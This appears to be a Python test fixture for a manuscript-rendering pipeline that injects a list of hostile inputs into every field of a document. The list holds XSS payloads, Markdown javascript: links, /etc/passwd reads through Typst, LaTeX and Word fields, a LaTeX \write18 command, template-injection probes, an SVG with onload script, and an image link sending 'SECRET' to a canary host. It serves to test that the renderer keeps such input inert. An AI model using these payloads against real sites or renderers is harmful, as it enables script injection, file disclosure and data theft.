"""What a stranger may write to make a document do something. All of it must arrive as text, or not at all."""

import dataclasses
from typing import Any

from generation.manuscripts import Choice, Exercise, Figure, Heading, Manuscript, Notice, Prose, Question

PAYLOADS = (
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    "<svg/onload=window.__xss=1>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<object data=javascript:window.__xss=1></object><embed src=//canary.invalid>",
    "<a href=javascript:window.__xss=1>x</a>",
    "<style>@import url(//canary.invalid/x.css)</style>",
    "<meta http-equiv=refresh content='0;url=//canary.invalid'>",
    "<base href=//canary.invalid>",
    "<link rel=stylesheet href=//canary.invalid>",
    "</title><script>window.__xss=1</script>",
    "</textarea></style></noscript><script>window.__xss=1</script>",
    '"><script>window.__xss=1</script>',
    "' onmouseover='window.__xss=1",
    "--><script>window.__xss=1</script><!--",
    "]]><script>window.__xss=1</script><![CDATA[",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "[x](javascript:window.__xss=1)",
    "[x](JaVaScRiPt&#58;window.__xss=1)",
    "[x](data:text/html;base64,PHNjcmlwdD4)",
    "[x](file:///etc/passwd) [x](/etc/passwd) [x](//canary.invalid)",
    "[ref]\n\n[ref]: javascript:window.__xss=1\n",
    "[a][(javascript:window.__xss=1)](x)",
    "<javascript:window.__xss=1>",
    "![x](http://canary.invalid/?d=SECRET)",
    "![x][pic]\n\n[pic]: http://canary.invalid/x.png\n",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![](/etc/passwd)",
    '#read("/etc/passwd") #image("/etc/passwd") #include "/etc/passwd" #panic()',
    '#import "@preview/cetz:0.3.4": *',
    "\\input{/etc/passwd} \\write18{id} $\\input{/etc/passwd}$",
    "`#panic()`{=typst} `<script>window.__xss=1</script>`{=html}",
    "```{=typst}\n#panic()\n```",
    "```{=html}\n<script>window.__xss=1</script>\n```",
    '```"><script>window.__xss=1</script>\nx\n```',
    "::: {onload=alert(1) typst:fill=red}\nx\n:::",
    "[x]{custom-style=Title} <w:instrText>INCLUDETEXT /etc/passwd</w:instrText>",
    "%{{7*7}} {{7*7}} ${7*7} {title} {0.__class__}",
    "&lt;script&gt;window.__xss=1&lt;/script&gt; &#60;script&#62;",
)
ALL = "\n\n".join(PAYLOADS)
EVIL_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"
onload="window.__xss=1"><script>window.__xss=1</script><image xlink:href="http://canary.invalid/x.png"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//canary.invalid"/></foreignObject></svg>"""


def poisoned(text: str = ALL) -> Manuscript:
    """The text in every place that holds one."""
    question = Question(text, (Choice(text, True), Choice(text, False)), True, text, text)
    return Manuscript(
        title=text,
        language="en",
        description=text,
        authors=(text, text),
        blocks=(
            Heading(1, text),
            Prose(text),
            Notice(text),
            Figure(text, text, text, EVIL_SVG),
            Figure("mermaid", text, text, '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'),
            Heading(2, text),
            Exercise(text, (question, Question(text, expected=text, explanation=text))),
        ),
        data={"title": text},
    )


def flipped(manuscript: Manuscript) -> Manuscript:
    """Another truth behind the same questions."""

    def turn(value: Any) -> Any:
        if isinstance(value, Choice):
            return dataclasses.replace(value, is_correct=not value.is_correct)
        if isinstance(value, Question):
            return dataclasses.replace(value, choices=tuple(map(turn, value.choices)), expected="no", explanation="no")
        if isinstance(value, Exercise):
            return dataclasses.replace(value, questions=tuple(map(turn, value.questions)))
        return value

    return dataclasses.replace(manuscript, blocks=tuple(map(turn, manuscript.blocks)))
